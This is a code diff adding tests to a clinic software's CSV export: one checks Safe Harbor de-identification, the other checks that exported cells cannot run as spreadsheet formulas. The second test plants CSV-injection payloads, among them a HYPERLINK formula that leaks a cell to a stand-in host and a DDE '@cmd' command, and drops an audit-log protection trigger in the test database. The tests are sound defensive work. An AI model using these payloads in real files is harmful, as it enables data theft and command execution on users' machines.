@@ -244,6 +244,46 @@ describe('exports from the command line (SQLite file)', () => {
     expect(a.rows[0]!.patient_pseudonym).toMatch(/^P-[0-9a-f]{20}$/)
   })
 
+  it('--deidentify meets Safe Harbor: no date finer than a year, visit dates as days from the procedure, 90 and over as one group', async () => {
+    // p3 (born 1938-12-01) is 87 at the procedure; moved to 1935-03-01 they are 90 and over today.
+    await clinic.database.db.updateTable('patients').set({ date_of_birth: '1935-03-01' }).where('mrn', '=', OUTCOME_PATIENTS.p3.mrn).execute()
+    const { text, rows } = await exportCsv('safe-harbor.csv', ['--deidentify'])
+    expect(text).not.toMatch(/\d{4}-\d{2}-\d{2}/)
+    const columns = Object.keys(rows[0]!)
+    expect(columns).toContain('procedure_year')
+    expect(columns.filter((c) => c.endsWith('_date'))).toEqual([])
+    expect(columns).toContain('fu_2_weeks_day')
+    expect(rows.map((r) => r.procedure_year)).toEqual(['2026', '2026', '2026'])
+    const identified = (await exportCsv('identified.csv')).rows
+    rows.forEach((r, i) => {
+      const full = identified[i]!
+      const days = (a: string, b: string) => Math.round((Date.parse(b) - Date.parse(a)) / 86_400_000)
+      expect(r.fu_2_weeks_day).toBe(full.fu_2_weeks_date ? String(days(full.procedure_date!, full.fu_2_weeks_date)) : '')
+      expect(r.baseline_pain_day).toBe(full.baseline_pain_date ? String(days(full.procedure_date!, full.baseline_pain_date)) : '')
+    })
+    const oldest = rows.find((r) => r.age_at_procedure === '90+')!
+    expect(oldest.birth_year).toBe('')
+    expect(rows.filter((r) => r.birth_year !== '').map((r) => r.birth_year).sort()).toEqual(['1941', '1950'])
+  })
+
+  it('no cell can run as a spreadsheet formula (OWASP CSV injection), in the outcome CSV and the audit log CSV', async () => {
+    const evil = { first_name: '=HYPERLINK("http://x.example/?"&A1,"Click")', last_name: '+SUM(1,2)', address: '@cmd|"/c calc"!A0', email: '\tx@example.org', phone: '-1+2' }
+    await clinic.database.db.updateTable('patients').set(evil).where('mrn', '=', OUTCOME_PATIENTS.p2.mrn).execute()
+    const { rows } = await exportCsv('evil.csv')
+    const row = rows.find((r) => r.mrn === OUTCOME_PATIENTS.p2.mrn)!
+    for (const [k, v] of Object.entries(evil)) expect(row[k], k).toBe(`'${v}`)
+    // numbers stay numbers: a pain change of -4 is not text
+    expect(rows.some((r) => /^-\d/.test(r.fu_2_weeks_pain_change ?? ''))).toBe(true)
+    // The audit log's CSV: a workstation's name is whatever its computer is called, "=cmd()" included (the
+    // trigger that keeps audit rows unchangeable is dropped to plant one).
+    clinic.database.sqlite!.exec(`DROP TRIGGER audit_log_no_update; UPDATE audit_log SET workstation = '=cmd()'`)
+    const boss = await clinic.as('manager', 'boss')
+    const audit = await clinic.ok(boss, 'audit.export', {})
+    const cells = (parse(audit.content, { columns: true }) as Record<string, string>[]).map((r) => r.workstation)
+    expect(cells.length).toBeGreaterThan(0)
+    expect(cells.every((c) => c === "'=cmd()")).toBe(true)
+  })
+
   it('writes a FHIR R4 bundle that an independent validator accepts', async () => {
     const r = await admin(['export', 'fhir', '--db', file, '--from', '2026-01-01', '--to', '2026-12-31', '--out', join(out, 'bundle.json')])
     expect(r.code, r.err).toBe(0)
